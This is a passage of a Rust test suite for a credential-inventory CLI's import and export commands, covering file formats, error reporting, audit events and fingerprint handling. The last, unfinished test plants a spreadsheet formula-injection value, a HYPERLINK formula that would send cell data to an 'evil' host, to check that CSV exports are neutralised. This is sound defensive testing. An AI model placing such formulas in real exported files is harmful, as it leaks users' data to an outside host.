//! `steward import` / `steward export`: the documented file formats, errors that name the
//! file, line and field, and all-or-nothing imports.

use crate::harness::*;

const INVENTORY_YAML: &str = "\
version: 1
parties:
  - handle: alice@example.com
    display_name: Alice Ng
    team: payments
  - handle: bob@example.com
identities:
  - name: billing-export
    kind: service_account
    system: aws
    external_id: AIDAEXAMPLE0000000001
    environment: prod
    tier: high
    purpose: nightly export of invoices
    scope:
      system: billing
      data: [invoices, ledger]
    business_owner: alice@example.com
    technical_steward: team-payments
    backup_approvers: [bob@example.com]
    review_due: 2027-03-01
    credentials:
      - kind: access_key
        public_id: AKIAEXAMPLE000000001
        created_at: 2026-01-01
        expires_at: 2027-01-01T00:00:00Z
  - name: deployer
    kind: deploy_key
    system: github
    tier: medium
    business_owner: bob@example.com
";

#[test]
fn a_yaml_inventory_imports_and_exports_round_trip() {
    let steward = Steward::new();
    let file = steward.write_file("inventory.yaml", INVENTORY_YAML);
    let output = steward.run(&["import", file.to_str().unwrap()]).ok();
    assert!(
        output
            .stderr
            .contains("imported 2 identities, 1 credentials, 3 new parties"),
        "{}",
        output.stderr
    );
    let shown = steward
        .run(&["nhi", "show", "aws/billing-export", "-o", "json"])
        .ok()
        .json();
    assert_eq!(shown["scope"]["data"], serde_json::json!(["invoices", "ledger"]));
    assert_eq!(shown["credentials"][0]["created_at"], "2026-01-01T00:00:00Z");
    assert_eq!(shown["source"], format!("import:{}", file.display()));

    // What one installation exports, another imports unchanged (ids are assigned anew;
    // the file has no fingerprints, so the other installation's key does not matter).
    for format in ["json", "yaml"] {
        let exported = steward.run(&["export", "-o", format]).ok().stdout;
        let other = Steward::new();
        let path = other.write_file(&format!("export.{format}"), &exported);
        other.run(&["import", path.to_str().unwrap()]).ok();
        assert_eq!(
            without_key_id(&other.run(&["export", "-o", format]).ok().stdout),
            without_key_id(&exported),
            "{format} round trip"
        );
        assert_ne!(
            other.run(&["export", "-o", format]).ok().stdout,
            exported,
            "each key has its id"
        );
    }
}

/// An export without its `fingerprint_key` line (each installation's own).
fn without_key_id(text: &str) -> String {
    text.lines()
        .filter(|line| !line.trim_start().trim_start_matches('"').starts_with("fingerprint_key"))
        .map(|line| format!("{line}\n"))
        .collect()
}

#[test]
fn revocation_times_are_kept_and_a_missing_creation_time_never_contradicts_the_others() {
    let steward = Steward::new();
    let yaml = "version: 1\nidentities:\n  - name: legacy\n    kind: service_account\n    system: aws\n    tier: low\n    credentials:\n      - kind: access_key\n        public_id: AKIAOLD\n        status: revoked\n        revoked_at: 2025-03-01T12:00:00Z\n      - kind: password\n        status: expired\n        expires_at: 2025-01-01\n";
    let file = steward.write_file("legacy.yaml", yaml);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let shown = steward.run(&["nhi", "show", "aws/legacy", "-o", "json"]).ok().json();
    let credential = |kind: &str| {
        shown["credentials"]
            .as_array()
            .unwrap()
            .iter()
            .find(|credential| credential["kind"] == kind)
            .unwrap()
            .clone()
    };
    assert_eq!(credential("access_key")["revoked_at"], "2025-03-01T12:00:00Z");
    // Created no later than the revocation or the expiry given; else the time of import.
    assert_eq!(credential("access_key")["created_at"], "2025-03-01T12:00:00Z");
    assert_eq!(credential("password")["created_at"], "2025-01-01T00:00:00Z");
    assert_eq!(shown["created_at"], "2026-11-27T10:00:00Z");
    // An expired credential added by hand without --created, likewise.
    let added = steward
        .run(&[
            "credential",
            "add",
            "aws/legacy",
            "--public-id",
            "AKIAOLD2",
            "--expires",
            "2024-06-01",
            "-o",
            "json",
        ])
        .ok()
        .json();
    assert_eq!(added["created_at"], "2024-06-01T00:00:00Z");
    // And the revocation time survives an export and an import elsewhere.
    let exported = steward.run(&["export", "-o", "yaml"]).ok().stdout;
    let other = Steward::new();
    let path = other.write_file("export.yaml", &exported);
    other.run(&["import", path.to_str().unwrap()]).ok();
    // Credential ids are assigned anew, in the order of the file.
    let without_ids = |text: &str| {
        text.lines()
            .filter(|line| !line.trim_start().starts_with("- id:") && !line.starts_with("fingerprint_key:"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(
        without_ids(&other.run(&["export", "-o", "yaml"]).ok().stdout),
        without_ids(&exported)
    );
}

/// A team listed after a person of that team keeps its display name (an export lists
/// people first); a handle listed twice is refused; an identity imported without a review
/// date is due after its tier's interval, as with `nhi add`.
#[test]
fn parties_import_in_any_order_and_imported_identities_are_due_for_review() {
    let steward = Steward::new();
    let yaml = "version: 1\nparties:\n  - handle: alice@example.com\n    team: payments\n  - handle: team-payments\n    display_name: Payments Team\nidentities: []\n";
    let file = steward.write_file("parties.yaml", yaml);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let parties = steward.run(&["party", "list", "-o", "json"]).ok().json();
    let team = parties
        .as_array()
        .unwrap()
        .iter()
        .find(|party| party["handle"] == "team-payments")
        .unwrap();
    assert_eq!(team["display_name"], "Payments Team");
    assert_rejected(
        "parties.yaml",
        "version: 1\nparties:\n  - handle: a@x.io\n    display_name: First\n  - handle: a@x.io\n    status: departed\nidentities: []\n",
        "parties.yaml: parties[1].handle: 'a@x.io' is listed twice (also parties[0]); nothing was imported",
    );
    let file = steward.write_file(
        "due.csv",
        "name,kind,system,tier\nr1,bot,aws,critical\nr2,bot,aws,low\n",
    );
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let listed = steward.run(&["nhi", "list", "-o", "json"]).ok().json();
    let due: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|identity| identity["review_due"].as_str().unwrap())
        .collect();
    assert_eq!(due, vec!["2027-02-25", "2027-11-27"]);
    // An explicit null (or an empty CSV cell) is no review date, as an export writes an
    // identity without one: it stays so.
    let file = steward.write_file(
        "none.yaml",
        "version: 1\nidentities:\n  - {name: n1, kind: bot, system: gcp, tier: low, review_due: null}\n",
    );
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let file = steward.write_file("none.csv", "name,kind,system,tier,review_due\nn2,bot,gcp,low,\n");
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let listed = steward
        .run(&["nhi", "list", "--system", "gcp", "-o", "json"])
        .ok()
        .json();
    assert_eq!(listed[0]["review_due"], serde_json::Value::Null, "{listed}");
    assert_eq!(listed[1]["review_due"], serde_json::Value::Null, "{listed}");
    for format in ["yaml", "csv"] {
        let exported = steward.run(&["export", "-o", format]).ok().stdout;
        let other = Steward::new();
        let file = other.write_file(&format!("export.{format}"), &exported);
        other.run(&["import", file.to_str().unwrap()]).ok();
        let listed = other.run(&["nhi", "list", "--system", "gcp", "-o", "json"]).ok().json();
        assert_eq!(listed[0]["review_due"], serde_json::Value::Null, "{format}: {listed}");
    }
    // `nhi show -o csv` prints the identity's fields, as `nhi add -o csv` does.
    let shown = steward.run(&["nhi", "show", "aws/r1", "-o", "csv"]).ok().stdout;
    let added = steward
        .run(&[
            "nhi", "add", "--name", "r3", "--kind", "bot", "--system", "aws", "--tier", "critical", "-o", "csv",
        ])
        .ok()
        .stdout;
    assert_eq!(shown.lines().next(), added.lines().next());
    assert!(shown.lines().nth(1).unwrap().starts_with("1,r1,bot,aws,"), "{shown}");
}

#[test]
fn json_and_csv_inventories_import() {
    let steward = Steward::new();
    steward.add_example_parties();
    let json = r#"{"version": 1, "identities": [{"name": "svc", "kind": "bot", "system": "slack", "tier": "low",
        "business_owner": "alice@example.com", "labels": {"team": "payments"}}]}"#;
    let file = steward.write_file("inventory.json", json);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let csv = "name,kind,system,tier,environment,business_owner,backup_approvers,scope,labels,review_due\n\
               orders-api,service_account,postgres,high,prod,alice@example.com,bob@example.com,\"system=orders,data=orders\",owner=payments;cost=42,2027-01-15\n\
               cache,service_account,redis,low,dev,,,,,\n";
    let file = steward.write_file("inventory.csv", csv);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let listed = steward.run(&["nhi", "list", "-o", "json"]).ok().json();
    let names: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|identity| identity["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["orders-api", "cache", "svc"]);
    assert_eq!(
        listed[0]["labels"],
        serde_json::json!({"cost": "42", "owner": "payments"})
    );
    assert_eq!(listed[0]["backup_approvers"], serde_json::json!(["bob@example.com"]));
    // Separators and backslashes inside values are escaped, so CSV export re-imports as
    // it was.
    steward
        .run(&[
            "nhi",
            "set",
            "svc",
            "--label",
            "agent=console, Mozilla/5.0 (Macintosh)",
            "--label",
            "k=a;b=c",
            "--label",
            "path=C:\\temp\\x",
        ])
        .ok();
    let exported = steward.run(&["export", "-o", "csv"]).ok().stdout;
    let other = Steward::new();
    other.add_example_parties();
    let path = other.write_file("export.csv", &exported);
    other.run(&["import", path.to_str().unwrap()]).ok();
    assert_eq!(other.run(&["export", "-o", "csv"]).ok().stdout.lines().count(), 4);
    let labels = |steward: &Steward| steward.run(&["nhi", "show", "svc", "-o", "json"]).ok().json()["labels"].clone();
    assert_eq!(labels(&other), labels(&steward));
    assert_eq!(labels(&other)["k"], "a;b=c");
    assert_eq!(labels(&other)["path"], "C:\\temp\\x");
}

/// Imports `text` as `name` and expects exit 2 with `expected` in the one-line error,
/// and nothing written.
#[track_caller]
fn assert_rejected(name: &str, text: &str, expected: &str) {
    let steward = Steward::new();
    let file = steward.write_file(name, text);
    let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
    let message = output.stderr.trim().replace(&format!("{}", file.display()), name);
    assert!(message.contains(expected), "expected '{expected}' in: {message}");
    for table in ["parties", "identities", "credentials", "audit_events"] {
        assert_eq!(steward.count(table), 0, "{table} must stay empty");
    }
}

#[test]
fn malformed_files_name_file_line_and_field_and_import_nothing() {
    let bad_tier = INVENTORY_YAML.replace("tier: medium", "tier: mediun");
    assert_rejected(
        "inventory.yaml",
        &bad_tier,
        "inventory.yaml:30: identities[1].tier: invalid tier 'mediun' (expected one of: critical, high, medium, low)",
    );
    let missing_kind = INVENTORY_YAML.replace("    kind: deploy_key\n", "");
    assert_rejected(
        "inventory.yaml",
        &missing_kind,
        "inventory.yaml:27: identities[1]: missing field `kind`",
    );
    let bad_date = INVENTORY_YAML.replace("review_due: 2027-03-01", "review_due: 2027-02-30");
    assert_rejected(
        "inventory.yaml",
        &bad_date,
        "inventory.yaml:21: identities[0].review_due:",
    );
    let unknown_field = INVENTORY_YAML.replace("    purpose:", "    porpose:");
    assert_rejected(
        "inventory.yaml",
        &unknown_field,
        "inventory.yaml:14: identities[0].porpose: unknown field `porpose`, expected one of",
    );
    let unknown_party = INVENTORY_YAML.replace("business_owner: bob@example.com", "business_owner: carol@example.com");
    assert_rejected(
        "inventory.yaml",
        &unknown_party,
        "inventory.yaml:27: identities[1] (github/deployer): unknown party 'carol@example.com'",
    );
    let duplicate =
        format!("{INVENTORY_YAML}  - name: deployer\n    kind: deploy_key\n    system: github\n    tier: low\n");
    assert_rejected(
        "inventory.yaml",
        &duplicate,
        "inventory.yaml:32: identities[2].name: identity 'github/deployer' appears twice in the file; nothing was imported",
    );
    let bad_scope = INVENTORY_YAML.replace("      system: billing", "      System: billing");
    assert_rejected(
        "inventory.yaml",
        &bad_scope,
        "identities[0].scope: invalid scope: key 'System'",
    );
    let bad_fingerprint = INVENTORY_YAML.replace("        public_id: AKIAEXAMPLE000000001", "        fingerprint: abc");
    assert_rejected(
        "inventory.yaml",
        &bad_fingerprint,
        "inventory.yaml:24: identities[0].credentials[0].fingerprint: invalid fingerprint",
    );
    // Dates that contradict each other name the later one, on its own line.
    let expired_before_created = INVENTORY_YAML.replace("expires_at: 2027-01-01T00:00:00Z", "expires_at: 2025-12-31");
    assert_rejected(
        "inventory.yaml",
        &expired_before_created,
        "inventory.yaml:26: identities[0].credentials[0].expires_at: is before the creation time (2026-01-01T00:00:00Z)",
    );
    let used_before_created = INVENTORY_YAML.replace(
        "    tier: medium\n",
        "    tier: medium\n    created_at: 2026-05-01\n    last_used_at: 2026-04-30T23:00:00Z\n",
    );
    assert_rejected(
        "inventory.yaml",
        &used_before_created,
        "inventory.yaml:32: identities[1].last_used_at: is before the creation time (2026-05-01T00:00:00Z)",
    );
    let revoked_at_while_active = INVENTORY_YAML.replace("created_at: 2026-01-01", "revoked_at: 2026-01-01");
    assert_rejected(
        "inventory.yaml",
        &revoked_at_while_active,
        "inventory.yaml:25: identities[0].credentials[0].revoked_at: is given but the status is active, not revoked",
    );
    assert_rejected(
        "inventory.yaml",
        "version: 2\n",
        "inventory.yaml: version: 2 is not supported",
    );
    assert_rejected("inventory.yaml", "version: 1\nidentities: [\n", "inventory.yaml:3:");
    assert_rejected(
        "inventory.json",
        "{\"version\": 1,\n \"identities\": [{\"name\": \"x\", \"kind\": \"bot\",\n \"system\": \"aws\", \"tier\": 3}]}",
        "inventory.json:3: identities[0].tier: invalid type: integer `3`, expected a string",
    );
    assert_rejected(
        "inventory.csv",
        "name,kind,system,tier\nok,bot,aws,low\nbad,bot,aws,extreme\n",
        "inventory.csv:3: column tier: invalid tier 'extreme'",
    );
    assert_rejected(
        "inventory.csv",
        "name,kind,sistem,tier\n",
        "inventory.csv:1: unknown column 'sistem'",
    );
    // Lines end in CRLF (as Excel writes them): the same line numbers.
    assert_rejected(
        "inventory.csv",
        "name,kind,system,tier\r\nok,bot,aws,low\r\nok2,bot,aws,low\r\nbad,bot,aws,extreme\r\n",
        "inventory.csv:4: column tier: invalid tier 'extreme'",
    );
    assert_rejected(
        "inventory.csv",
        "name,kind,system,tier\r\nok,bot,aws,low\r\nbad,bot,aws,low,extra\r\n",
        "inventory.csv:3: 5 fields where the header has 4",
    );
    assert_rejected(
        "inventory.csv",
        "name,kind,system,tier,name\nfirst,bot,gh,low,second\n",
        "inventory.csv:1: column 'name' appears twice",
    );
    assert_rejected(
        "inventory.csv",
        "",
        "inventory.csv:1: no header row (columns: id, name,",
    );
    assert_rejected(
        "inventory.csv",
        "name,kind,system,tier\nx,bot,aws\n",
        "inventory.csv:2:",
    );
    assert_rejected("inventory.txt", "", "cannot tell the format from the extension");
}

#[test]
fn a_large_import_names_the_line_of_a_repeated_name() {
    // 25,000 records take the bulk path, where SQLite checks names only when it rebuilds
    // the name index after loading: the error still names the first repeating record.
    let steward = Steward::new();
    let mut csv = String::from("name,kind,system,tier\n");
    for index in 0..25_000 {
        let name = if index == 20_000 {
            "svc-00007".to_string()
        } else {
            format!("svc-{index:05}")
        };
        csv.push_str(&format!("{name},service_account,aws,low\n"));
    }
    let file = steward.write_file("inventory.csv", &csv);
    let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
    assert!(
        output.stderr.contains(
            "inventory.csv:20002: identities[20000].name: identity 'aws/svc-00007' appears twice in the file; nothing was imported"
        ),
        "{}",
        output.stderr
    );
    assert_eq!(steward.count("identities"), 0);
}

#[test]
fn an_identity_that_already_exists_aborts_the_whole_import() {
    let steward = Steward::new();
    let file = steward.write_file("inventory.yaml", INVENTORY_YAML);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let before = (steward.count("identities"), steward.count("audit_events"));
    let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
    assert!(
        output
            .stderr
            .contains("identities[0].name: identity 'aws/billing-export' already exists"),
        "{}",
        output.stderr
    );
    assert_eq!((steward.count("identities"), steward.count("audit_events")), before);
}

#[test]
fn large_imports_are_audited_as_summaries_that_each_identity_log_finds() {
    let steward = Steward::new();
    let mut csv = String::from("name,kind,system,tier\n");
    for index in 0..10_001 {
        csv.push_str(&format!("svc-{index:05},service_account,aws,low\n"));
    }
    let file = steward.write_file("large.csv", &csv);
    let path = file.to_str().unwrap();
    // Above 10,000 identities, `auto` writes one summary event per 4,096 identities.
    let output = steward.run(&["import", path]).ok();
    assert!(output.stderr.contains("(3 audit events"), "{}", output.stderr);
    let log = steward
        .run(&["audit", "log", "--subject", "aws/svc-05000", "-o", "json"])
        .ok()
        .json();
    assert_eq!(log.as_array().unwrap().len(), 1, "{log}");
    assert_eq!(log[0]["action"], "identity.import");
    assert_eq!(log[0]["subject"], path);
    let after = &log[0]["after"];
    assert_eq!(after["identity_ids"], serde_json::json!([4097, 8192]));
    assert_eq!(after["records_sha256"].as_str().unwrap().len(), 64);
    steward.run(&["audit", "verify"]).ok();

    // `--audit-detail record` keeps one event per identity whatever the size.
    let other = Steward::new();
    let output = other.run(&["import", path, "--audit-detail", "record"]).ok();
    assert!(output.stderr.contains("(10001 audit events"), "{}", output.stderr);
    // And small files may be summarised on request.
    let small = other.write_file("small.csv", "name,kind,system,tier\nbot,bot,slack,low\n");
    let output = other
        .run(&["import", small.to_str().unwrap(), "--audit-detail", "summary"])
        .ok();
    assert!(output.stderr.contains("(1 audit events"), "{}", output.stderr);
}

#[test]
fn large_files_are_read_as_they_are_imported_and_a_late_error_undoes_everything() {
    // 25,000 identities (more than 1 MiB, so the file is mapped; past SQLite's bulk
    // threshold): whole chunks are written before the bad record is parsed, and the
    // import still leaves nothing.
    let steward = Steward::new();
    let mut yaml = String::from("version: 1\nparties:\n- handle: alice@example.com\nidentities:\n");
    let mut json = String::from("{\"version\": 1, \"identities\": [\n");
    for index in 0..25_000 {
        let tier = if index == 24_990 { "extreme" } else { "low" };
        yaml.push_str(&format!(
            "- name: svc-{index:05}\n  kind: service_account\n  system: aws\n  tier: {tier}\n  business_owner: alice@example.com\n"
        ));
        json.push_str(&format!(
            "{}{{\"name\": \"svc-{index:05}\", \"kind\": \"bot\", \"system\": \"aws\",\n \"tier\": \"{tier}\"}}",
            if index > 0 { ",\n" } else { "" }
        ));
    }
    json.push_str("]}\n");
    assert!(yaml.len() > 1 << 20 && json.len() > 1 << 20);
    // YAML item 24,990 starts at line 5 + 5 * 24,990, its tier three lines further; JSON
    // item 24,990 at line 2 + 2 * 24,990, its tier one line further.
    for (name, text, line) in [
        ("large.yaml", &yaml, 5 + 5 * 24_990 + 3),
        ("large.json", &json, 2 + 2 * 24_990 + 1),
    ] {
        let file = steward.write_file(name, text);
        let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
        let expected = format!("{name}:{line}: identities[24990].tier: invalid tier 'extreme'");
        assert!(output.stderr.contains(&expected), "{}", output.stderr);
    }
    for table in ["parties", "identities", "credentials", "audit_events"] {
        assert_eq!(steward.count(table), 0, "{table} must stay empty");
    }
    // The same files, fixed, import whole.
    let file = steward.write_file("large.yaml", &yaml.replace("extreme", "high"));
    let output = steward.run(&["import", file.to_str().unwrap()]).ok();
    assert!(output.stderr.contains("imported 25000 identities"), "{}", output.stderr);
    let listed = steward
        .run(&["nhi", "list", "--tier", "high", "-o", "json"])
        .ok()
        .json();
    assert_eq!(listed[0]["name"], "svc-24990");
    assert_eq!(listed[0]["business_owner"], "alice@example.com");
}

#[test]
fn yaml_with_anchors_is_read_as_one_document() {
    // An alias in an identity to an anchor in the parties: items cannot be read alone.
    let steward = Steward::new();
    let yaml = "version: 1\nparties:\n- handle: &alice alice@example.com\nidentities:\n- name: one\n  kind: bot\n  system: aws\n  tier: low\n  business_owner: *alice\n- name: two\n  kind: bot\n  system: aws\n  tier: lo\n";
    let file = steward.write_file("anchors.yaml", yaml);
    let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
    assert!(
        output
            .stderr
            .contains("anchors.yaml:13: identities[1].tier: invalid tier 'lo'"),
        "{}",
        output.stderr
    );
    let file = steward.write_file("anchors.yaml", &yaml.replace("tier: lo\n", "tier: low\n"));
    steward.run(&["import", file.to_str().unwrap()]).ok();
    let shown = steward.run(&["nhi", "show", "aws/one", "-o", "json"]).ok().json();
    assert_eq!(shown["business_owner"], "alice@example.com");
}

#[test]
fn listings_into_a_closed_pipe_end_quietly() {
    // `steward nhi list -o csv | head -1`: once the reader is gone, the rest of the output
    // meets a closed pipe, which is success (exit 0, nothing on stderr), for every format.
    let steward = Steward::new();
    let mut csv = String::from("name,kind,system,tier,purpose\n");
    for index in 0..3_000 {
        csv.push_str(&format!("svc-{index:05},service_account,aws,low,{}\n", "p".repeat(100)));
    }
    let file = steward.write_file("many.csv", &csv);
    steward.run(&["import", file.to_str().unwrap()]).ok();
    for format in ["csv", "json", "jsonl", "table"] {
        for command in [&["nhi", "list", "-o", format][..], &["export", "-o", format][..]] {
            if command[0] == "export" && matches!(format, "jsonl" | "table") {
                continue;
            }
            let mut child = steward
                .command(command)
                .stdin(std::process::Stdio::null())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let mut first = [0u8; 16];
            std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut first).unwrap();
            drop(child.stdout.take());
            let output = child.wait_with_output().unwrap();
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(0), "{command:?}: {stderr}");
            assert!(stderr.is_empty(), "{command:?}: {stderr}");
        }
    }
}

#[test]
fn the_readme_inventory_example_imports() {
    // The YAML block of the README's "Inventory files" section, as a user would copy it.
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../README.md")).unwrap();
    let start = readme
        .find("version: 1\n# fingerprint_key")
        .expect("the README's inventory example");
    let end = start + readme[start..].find("```").unwrap();
    let steward = Steward::new();
    let file = steward.write_file("inventory.yaml", &readme[start..end]);
    let output = steward.run(&["import", file.to_str().unwrap()]).ok();
    assert!(
        output
            .stderr
            .contains("imported 1 identities, 1 credentials, 4 new parties, 1 new scanned secrets, 1 new copies"),
        "{}",
        output.stderr
    );
    let shown = steward
        .run(&["nhi", "show", "aws/billing-export", "-o", "json"])
        .ok()
        .json();
    assert_eq!(shown["control_owner"], "team-identity");
}

#[test]
fn known_copies_and_unmanaged_secrets_survive_an_export_and_import() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(&tree).unwrap();
    let known = token_from("a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5");
    let stray = token_from("Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5");
    std::fs::write(tree.join("ci.yml"), format!("token: {known}\nother: {stray}\n")).unwrap();
    steward
        .run(&[
            "nhi",
            "add",
            "--name",
            "release-bot",
            "--kind",
            "bot",
            "--system",
            "github",
            "--tier",
            "high",
        ])
        .ok();
    steward
        .run_with_stdin(
            &[
                "credential",
                "add",
                "release-bot",
                "--kind",
                "token",
                "--public-id",
                "release-bot",
                "--secret-stdin",
            ],
            Some(&known),
        )
        .ok();
    steward
        .run(&["scan", tree.to_str().unwrap(), "--record", "--exit-zero"])
        .ok();
    steward
        .run_with_stdin(
            &[
                "credential",
                "locate",
                "--kind",
                "ticket",
                "--at",
                "OPS-7#c3",
                "--secret-stdin",
            ],
            Some(&known),
        )
        .ok();
    let yaml = steward.run(&["export", "-o", "yaml"]).ok().stdout;
    assert!(yaml.contains("\nsecrets:\n- fingerprint: "), "{yaml}");
    assert!(yaml.contains("  - kind: ticket\n    locator: OPS-7#c3\n"), "{yaml}");
    assert!(
        !yaml.contains(&known) && !yaml.contains(&stray),
        "no secret in an export"
    );
    let json = steward.run(&["export", "-o", "json"]).ok().stdout;
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().stdout;

    // Another installation with the same keys (a move to another database) gets it all.
    for (name, text) in [("export.yaml", &yaml), ("export.json", &json)] {
        let other = Steward::uninitialised();
        std::fs::create_dir_all(other.data_dir().join("keys")).unwrap();
        for key in ["fingerprint.key", "audit-signing.key", "audit-verify.pub"] {
            std::fs::copy(
                steward.data_dir().join("keys").join(key),
                other.data_dir().join("keys").join(key),
            )
            .unwrap();
        }
        other.run(&["init"]).ok();
        let file = other.write_file(name, text);
        let imported = other.run(&["import", file.to_str().unwrap()]).ok();
        assert!(
            imported
                .stderr
                .contains("imported 1 identities, 1 credentials, 0 new parties, 2 new scanned secrets, 3 new copies"),
            "{}",
            imported.stderr
        );
        assert_eq!(other.run(&["export", "-o", "yaml"]).ok().stdout, yaml, "{name}");
        assert_eq!(other.run(&["export", "-o", "json"]).ok().stdout, json, "{name}");
        let ids = |text: &str| {
            let mut value: serde_json::Value = serde_json::from_str(text).unwrap();
            for finding in value.as_array_mut().unwrap() {
                for location in finding["evidence"]["locations"].as_array_mut().into_iter().flatten() {
                    location.as_object_mut().unwrap().remove("id");
                }
            }
            value
        };
        let again = other.run(&["findings", "--source", "scan", "-o", "json"]).ok().stdout;
        assert_eq!(ids(&again), ids(&findings), "{name}");
        let shown = other.run(&["nhi", "show", "release-bot"]).ok().stdout;
        assert!(shown.contains("known copies (2 live, 0 removed)"), "{shown}");
        other.run(&["audit", "verify"]).ok();
    }
}

#[test]
fn bad_secrets_name_their_line_and_field_and_import_nothing() {
    let fingerprint = "ab".repeat(32);
    let head = format!(
        "version: 1\nidentities:\n  - name: svc\n    kind: bot\n    system: github\n    tier: low\nsecrets:\n  - fingerprint: {fingerprint}\n"
    );
    for (tail, expected) in [
        (
            "    locations:\n      - kind: ticket\n        locator: OPS-1\n      - kind: ticket\n        locator: OPS-1\n",
            "inventory.yaml:13: secrets[0].locations[1].locator: 'OPS-1' is listed twice",
        ),
        (
            "    rule_id: github-classic-pat\n    preview: ghp_…\n",
            "inventory.yaml:8: secrets[0].rule_name: rule_id, rule_name and preview go together",
        ),
        (
            "    locations:\n      - kind: ticket\n        locator: OPS-1\n        first_seen: 2026-02-01\n        last_seen: 2026-01-01\n",
            "inventory.yaml:13: secrets[0].locations[0].last_seen: is before first_seen",
        ),
        (
            "    locations:\n      - kind: ticket\n        locator: OPS-1\n  - fingerprint: ABAB\n    locations: []\n",
            "inventory.yaml:12: secrets[1].fingerprint: invalid fingerprint",
        ),
        (
            "    locations: []\n",
            "inventory.yaml:9: secrets[0].locations: a secret needs copies, or rule_id, rule_name and preview",
        ),
    ] {
        let steward = Steward::new();
        let file = steward.write_file("inventory.yaml", &format!("{head}{tail}"));
        let output = steward.run(&["import", file.to_str().unwrap()]).fails_with(2);
        assert!(output.stderr.contains(expected), "{tail}: {}", output.stderr);
        assert_eq!(steward.count("identities"), 0);
        assert_eq!(steward.count("locations"), 0);
    }
}

#[test]
fn fingerprints_of_another_installations_key_are_refused_or_dropped() {
    let steward = Steward::new();
    steward.add_example_parties();
    steward.add_example_identity();
    steward.add_example_credential("AKIAEXAMPLE000000001", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYz9q8Lk2mTe");
    steward
        .run_with_stdin(
            &[
                "credential",
                "locate",
                "--kind",
                "ticket",
                "--at",
                "OPS-7#c3",
                "--secret-stdin",
            ],
            Some("wJalrXUtnFEMI/K7MDENG/bPxRfiCYz9q8Lk2mTe"),
        )
        .ok();
    let yaml = steward.run(&["export", "-o", "yaml"]).ok().stdout;
    let key_line = yaml.lines().nth(1).unwrap();
    assert!(key_line.starts_with("fingerprint_key: "), "{yaml}");
    let without_secrets = &yaml[..yaml.find("\nsecrets:\n").unwrap() + 1];

    // Another installation (another key): refused at the header's line, with secrets or
    // with only credentials' fingerprints; nothing imported.
    let other = Steward::new();
    for (name, text) in [("all.yaml", &yaml[..]), ("credentials.yaml", without_secrets)] {
        let file = other.write_file(name, text);
        let output = other.run(&["import", file.to_str().unwrap()]).fails_with(2);
        assert!(
            output.stderr.contains(&format!(
                "{name}:2: fingerprint_key: the file's fingerprints were made under another"
            )),
            "{}",
            output.stderr
        );
        assert_eq!(other.count("identities"), 0);
    }
    // A file without fingerprints imports anywhere.
    let bare: String = without_secrets
        .lines()
        .filter(|line| !line.trim_start().starts_with("fingerprint: "))
        .map(|line| format!("{line}\n"))
        .collect();
    let file = other.write_file("bare.yaml", &bare);
    other.run(&["import", file.to_str().unwrap()]).ok();
    // --drop-fingerprints takes the rest and says what it left out.
    let third = Steward::new();
    let file = third.write_file("all.yaml", &yaml);
    let output = third
        .run(&["import", file.to_str().unwrap(), "--drop-fingerprints"])
        .ok();
    assert!(
        output.stderr.contains("1 secrets of the file left out"),
        "{}",
        output.stderr
    );
    let credentials = third
        .run(&["credential", "list", "billing-export", "-o", "json"])
        .ok()
        .json();
    assert!(credentials[0]["fingerprint"].is_null(), "{credentials}");
    assert_eq!(third.count("locations"), 0);
    // An export made where the key is not at hand says so, and its fingerprints are
    // refused even by the installation that made them.
    std::fs::rename(
        steward.data_dir().join("keys/fingerprint.key"),
        steward.dir.path().join("fingerprint.key.away"),
    )
    .unwrap();
    let unknown = steward.run(&["export", "-o", "yaml"]).ok().stdout;
    assert_eq!(unknown.lines().nth(1), Some("fingerprint_key: unknown"), "{unknown}");
    std::fs::rename(
        steward.dir.path().join("fingerprint.key.away"),
        steward.data_dir().join("keys/fingerprint.key"),
    )
    .unwrap();
    let fresh = Steward::new();
    let file = fresh.write_file("unknown.yaml", &unknown);
    let output = fresh.run(&["import", file.to_str().unwrap()]).fails_with(2);
    assert!(
        output.stderr.contains(
            "unknown.yaml:2: fingerprint_key: the file does not say which key its fingerprints were made under"
        ),
        "{}",
        output.stderr
    );
    // A malformed id is refused as such.
    let file = third.write_file("bad.yaml", &yaml.replacen(key_line, "fingerprint_key: xyz", 1));
    let output = third.run(&["import", file.to_str().unwrap()]).fails_with(2);
    assert!(
        output
            .stderr
            .contains("bad.yaml:2: fingerprint_key: must be 16 hexadecimal digits"),
        "{}",
        output.stderr
    );
}

/// `export -o csv` cannot start a spreadsheet formula, and imports back as it was: a
/// leading `'` guards `=`, `+`, `-`, `@` and `'` itself, and import takes it off.
#[test]
fn csv_exports_cannot_start_a_formula_and_import_back_unchanged() {
    let steward = Steward::new();
    let file = steward.write_file(
        "inventory.yaml",
        "version: 1\nidentities:\n  - name: formula\n    kind: bot\n    system: s\n    tier: low\n    purpose: '=HYPERLINK(\"http://evil/?\"&A1,\"click\")'\n    external_id: \"'quoted\"\n    labels: {note: '-1'}\n",
    );
    steward.run(&["import", file.to_str().unwrap()]).ok();
